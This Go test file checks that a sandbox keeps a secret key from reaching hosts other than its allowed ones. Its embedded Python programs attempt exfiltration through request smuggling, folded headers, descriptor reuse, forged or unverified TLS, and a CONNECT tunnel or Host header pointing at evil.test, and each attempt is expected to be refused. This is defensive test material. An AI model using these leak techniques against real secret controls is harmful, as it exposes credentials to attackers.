package security_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/eryx-go/eryx/core"
	"github.com/eryx-go/eryx/tests/testca"
)

// Claim: the value of a secret goes to the hosts that it is for, and to no other, whatever the program says of whom it
// talks to. Numbers are those of the list in the issue.

const refusedKey = "PermissionError: [Errno 2] secret KEY: it must not be sent to 127.0.0.2 (allowed_hosts: 127.0.0.1)"

// 86: the positive control, over plain connections and TLS.
func TestSecretReachesItsHost(t *testing.T) {
	ca := testca.New(t)
	pair := ca.Localhost().TLS(t)
	plain, secure := newCollector(t, "127.0.0.1:0", nil), newCollector(t, "127.0.0.1:0", &pair)
	result, err := run(t, trusted(ca), secretProgram+fmt.Sprintf(`
head = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Key: " + key + "\r\n\r\n"
print(raw("127.0.0.1", %s, head))
print(raw("127.0.0.1", %s, head, context=ssl.create_default_context()))
`, plain.port(), secure.port()))
	wantStdout(t, result, err, "HTTP/1.1 200 OK\nHTTP/1.1 200 OK\n")
	for _, c := range []*collector{plain, secure} {
		if want := "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Key: " + secretValue + "\r\n\r\n"; c.got() != want {
			t.Errorf("the server got %q", c.got())
		}
	}
}

// 68, 72, 73, 79, 80, 82, 83, 85: everything that might lead a header to the wrong host.
func TestSecretDoesNotReachOthers(t *testing.T) {
	theirs, ours := newCollector(t, "127.0.0.2:0", nil), newCollector(t, "127.0.0.1:0", nil)
	head := `"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Key: " + key + "\r\n\r\n"`
	for _, test := range []struct{ name, pieces, want string }{
		{"68 a header", head, refusedKey},
		{"72 in pieces", "*" + head, refusedKey},
		{"73 behind another request", `"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + ` + head, refusedKey},
		{"79 as the other secret", `"GET / HTTP/1.1\r\nX-Key: " + key + "\r\nX-Other: " + other + "\r\n\r\n"`, refusedKey},
		{"80 with the right Host", `"GET / HTTP/1.1\r\nX-Key: " + key + "\r\nHost: 127.0.0.1\r\n\r\n"`, refusedKey},
		{"80 with the right address in the target", `"GET http://127.0.0.1/ HTTP/1.1\r\nX-Key: " + key + "\r\n\r\n"`, refusedKey},
		{"83 in a continued line", `"GET / HTTP/1.1\r\nX-Key: a\r\n " + key + "\r\n\r\n"`, "PermissionError: [Errno 2] a request with a secret must be strict HTTP/1.1: the header block is not strict HTTP/1.1"},
		{"85 in a large block", `"GET / HTTP/1.1\r\n" + "A: " + "x" * 100000 + "\r\nX-Key: " + key + "\r\n\r\n"`, refusedKey},
		{"in Basic authentication", `"GET / HTTP/1.1\r\nAuthorization: Basic " + base64.b64encode(b"u:" + key.encode()).decode() + "\r\n\r\n"`, refusedKey},
	} {
		result, err := run(t, withSecrets(), secretProgram+fmt.Sprintf("print(raw('127.0.0.2', %s, %s))", theirs.port(), test.pieces))
		t.Log(test.name)
		wantStdout(t, result, err, test.want+"\n")
	}
	// 82: descriptors that are used again lead where they lead now.
	result, err := run(t, withSecrets(), secretProgram+fmt.Sprintf(`
head = ("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Key: " + key + "\r\n\r\n").encode()
outcomes = set()
for i in range(50):
    a = socket.create_connection(("127.0.0.1", %s)); number = a.fileno(); a.close()
    b = socket.create_connection(("127.0.0.2", %s))
    assert b.fileno() == number
    try: b.sendall(head); print(b.recv(100))
    except PermissionError as e: outcomes.add(str(e))
    b.close()
print(outcomes)
`, ours.port(), theirs.port()))
	wantStdout(t, result, err, "{'"+strings.TrimPrefix(refusedKey, "PermissionError: ")+"'}\n")
	if got := theirs.got(); strings.Contains(got, secretValue) || strings.Contains(got, marker) {
		t.Errorf("the other host got %q", got)
	}
}

// 81: the name that TLS asks for authorises nothing by itself: the server must prove it to the host.
func TestSecretNeedsAProvenName(t *testing.T) {
	ca, own := testca.New(t), testca.New(t)
	good, forged := ca.Issue([]string{"127.0.0.2"}, nil).TLS(t), own.Issue([]string{"127.0.0.1", "127.0.0.2"}, nil).TLS(t)
	theirs, forger := newCollector(t, "127.0.0.2:0", &good), newCollector(t, "127.0.0.2:0", &forged)
	program := secretProgram + fmt.Sprintf(`
open("/tmp/own.pem", "w").write(%q)
head = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Key: " + key + "\r\n\r\n"
system, mine, none = ssl.create_default_context(), ssl.create_default_context(cafile="/tmp/own.pem"), ssl._create_unverified_context()
print(raw("127.0.0.2", %s, head, context=system, name="127.0.0.1"))
print(raw("127.0.0.2", %s, head, context=system))
for context in mine, none: print(raw("127.0.0.2", %s, head, context=context, name="127.0.0.1"))
`, own.PEM(), theirs.port(), theirs.port(), forger.port())
	strict := "SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: "
	mismatch := strict + "IP address mismatch, certificate is not valid for '127.0.0.1'.\n" + refusedKey + "\n"
	note := " (verification by the host's roots is required by the network policy: allow_insecure_tls is off)\n"
	result, err := run(t, trusted(ca), program)
	wantStdout(t, result, err, mismatch+strings.Repeat(strict+"unable to get local issuer certificate"+note, 2))

	// Where the program may trust whom it likes, it still cannot make the host believe it.
	config := trusted(ca)
	config.Network.AllowInsecureTLS = true
	unproven := "PermissionError: [Errno 2] secret KEY: the server has not proven its name to the host: the verification of certificates is off, or the program trusts an authority of its own\n"
	result, err = run(t, config, program)
	wantStdout(t, result, err, mismatch+unproven+unproven)
	for _, c := range []*collector{theirs, forger} {
		if got := c.got(); strings.Contains(got, secretValue) || strings.Contains(got, marker) {
			t.Errorf("the server got %q", got)
		}
	}
}

// A tunnel or another protocol behind an allowed host is no way around it, and HTTP/2 is refused with a reason.
func TestSecretStaysOutOfTunnels(t *testing.T) {
	ours := newCollector(t, "127.0.0.1:0", nil)
	result, err := run(t, withSecrets(), secretProgram+fmt.Sprintf(`
head = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Key: " + key + "\r\n\r\n"
print(raw("127.0.0.1", %[1]s, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n" + head)[:8])
print(raw("127.0.0.1", %[1]s, "GET / HTTP/1.1\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n" + head)[:8])
print(raw("127.0.0.1", %[1]s, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
print(raw("127.0.0.1", %[1]s, "GET / HTTP/1.1\r\nHost: evil.test\r\nX-Key: " + key + "\r\n\r\n"))
`, ours.port()))
	wantStdout(t, result, err, "HTTP/1.1\nHTTP/1.1\nPermissionError: [Errno 2] HTTP/2 cannot be used in a sandbox with secrets: use HTTP/1.1\n"+
		"PermissionError: [Errno 2] secret KEY: the request's Host header names \"evil.test\", which it must not be sent to\n")
	noValue(t, "the server", ours.got())
}

// fetch keeps to the same rules, also after a redirect.
func TestSecretByFetch(t *testing.T) {
	theirs, ours := newCollector(t, "127.0.0.2:0", nil), newCollector(t, "127.0.0.1:0", nil)
	config := withSecrets()
	config.Network.Fetch = true
	result, err := run(t, config, secretProgram+fmt.Sprintf(`
print((await fetch("http://127.0.0.1:%s/", headers={"X-Key": key})).status)
try: await fetch("http://127.0.0.2:%s/", headers={"X-Key": key, "Host": "127.0.0.1"})
except OSError as e: print(f"{type(e).__name__}: {e}")
`, ours.port(), theirs.port()))
	wantStdout(t, result, err, "200\n"+refusedKey+"\n")
	if theirs.got() != "" || !strings.Contains(ours.got(), "X-Key: "+secretValue+"\r\n") {
		t.Errorf("got %q, %q", theirs.got(), ours.got())
	}
}

// Without a list of its own a secret goes where the network's list says.
func TestSecretWithoutHosts(t *testing.T) {
	theirs := newCollector(t, "127.0.0.2:0", nil)
	config := withSecrets()
	network := config.Network.AllowHost("127.0.0.1").AllowHost("127.0.0.2")
	config.Network, config.Secrets = &network, []core.Secret{{Name: "KEY", Value: secretValue}, {Name: "OTHER", Value: otherValue}}
	result, err := run(t, config, secretProgram+fmt.Sprintf(`print(raw("127.0.0.2", %s, "GET / HTTP/1.1\r\nX-Key: " + key + "\r\n\r\n"))`, theirs.port()))
	wantStdout(t, result, err, "HTTP/1.1 200 OK\n")
	if !strings.Contains(theirs.got(), secretValue) {
		t.Errorf("got %q", theirs.got())
	}
}
